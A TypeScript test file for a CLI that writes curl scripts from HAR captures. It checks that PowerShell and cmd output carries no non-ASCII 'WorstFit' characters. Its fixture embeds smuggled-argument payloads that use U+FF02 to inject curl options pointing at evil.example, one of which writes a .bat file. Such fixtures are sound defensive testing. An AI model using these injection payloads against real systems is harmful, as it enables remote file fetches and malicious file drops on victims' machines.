// The built CLI's PowerShell and cmd scripts hand curl.exe no character outside ASCII (WorstFit: a
// Windows program reading its command line through the ANSI code page takes U+FF02 for `"` and U+FF3C
// for `\`, and a HAR's author would add curl options). The request is left out with a comment, and
// standard error says so; the bash script still carries it. The review's repro, through bin/.

import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';

const BIN = fileURLToPath(new URL('../../bin/cors-inspector.mjs', import.meta.url));
const scratch = mkdtempSync(join(tmpdir(), 'cors-inspector-worstfit-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

function run(args: string[]): { status: number | null; stdout: string; stderr: string } {
  const child = spawnSync(process.execPath, [BIN, ...args], { cwd: scratch, encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });
  return { status: child.status, stdout: child.stdout, stderr: child.stderr };
}

const page = 'https://app.example';
function entry(path: string, headers: [string, string][], body: string | null) {
  return {
    startedDateTime: '2026-01-01T00:00:01.000Z',
    time: 5,
    _resourceType: 'fetch',
    request: {
      method: 'PUT',
      url: `https://api.example/${path}`,
      httpVersion: 'HTTP/1.1',
      headers: [['Origin', page], ['Content-Type', 'text/plain'], ...headers].map(([name, value]) => ({ name, value })),
      queryString: [],
      cookies: [],
      headersSize: -1,
      bodySize: -1,
      ...(body === null ? {} : { postData: { mimeType: 'text/plain', text: body } }),
    },
    // No Access-Control-Allow-Origin: blocked, so each one has a curl pair.
    response: { status: 200, statusText: '', httpVersion: 'HTTP/1.1', headers: [], cookies: [], content: { size: 0, mimeType: 'text/plain' }, redirectURL: '', headersSize: -1, bodySize: -1 },
    cache: {},
    timings: { send: 0, wait: 1, receive: 1 },
  };
}

const har = join(scratch, 'worstfit.har');
writeFileSync(
  har,
  JSON.stringify({
    log: {
      version: '1.2',
      creator: { name: 'WebInspector', version: '1' },
      entries: [
        entry('wf-header', [['X-Trace', 'a\uff02 -K \\\\evil.example\\share\\c.txt -o %TEMP%\\\\..\\\\x.bat \uff02']], null),
        entry('wf-body', [], 'body\uff02 --next --url http://evil.example/'),
        entry('wf-accent', [], 'Ren\u00e9e'),
        entry('wf-path\uff02x', [], 'plain'),
      ],
    },
  }),
);

describe('cors-inspector curl --shell powershell|cmd, built: nothing outside ASCII for curl.exe', () => {
  it.each(['powershell', 'cmd'])('%s: the header, the body and the é are left out, each with its reason; the URL is sent percent-encoded', (shell) => {
    const result = run(['curl', har, '--url-contains', 'wf', '--shell', shell]);
    expect(result.status).toBe(0);
    const comment = shell === 'cmd' ? 'REM ' : '# ';
    expect(result.stdout).toContain(`${comment}No curl command: the value of the X-Trace header holds U+FF02, a character outside ASCII: `);
    expect(result.stdout).toContain(`${comment}No curl command: the body holds U+FF02, a character outside ASCII: `);
    expect(result.stdout).toContain(`${comment}No curl command: the body holds U+00E9, a character outside ASCII: `);
    // Each reason names the version that carries it.
    expect(result.stdout.match(/use the bash version \(WSL or Git Bash\)\./g)).toHaveLength(3);
    // Only the path's request has commands (its preflight and itself), and no line hands curl.exe anything outside ASCII.
    const commands = result.stdout.split(/\r?\n/).filter((line) => !line.startsWith(comment) && /[^\x00-\x7f]/.test(line));
    expect(commands).toEqual([]);
    expect(result.stdout.match(/^curl\.exe /gm)).toHaveLength(2);
    // cmd writes a `^` after each `%` (`quoteCmd`), which it takes away.
    expect(result.stdout).toContain(shell === 'cmd' ? '--url ^"https://api.example/wf-path%^EF%^BC%^82x^"' : "--url 'https://api.example/wf-path%EF%BC%82x'");
    expect(result.stderr).toMatch(/^cors-inspector curl: no curl command for 3 of 4 requests \(the script says why in a comment\): the value of the X-Trace header holds U\+FF02, a character outside ASCII: .*use the bash version \(WSL or Git Bash\)\n$/);
  });

  it('bash carries all four', () => {
    const result = run(['curl', har, '--url-contains', 'wf']);
    expect(result.status).toBe(0);
    expect(result.stderr).toBe('');
    expect(result.stdout).toContain("'X-Trace: a\uff02 -K \\\\evil.example\\share\\c.txt -o %TEMP%\\\\..\\\\x.bat \uff02'");
    expect(result.stdout).toContain("'Ren\u00e9e'");
  });
});
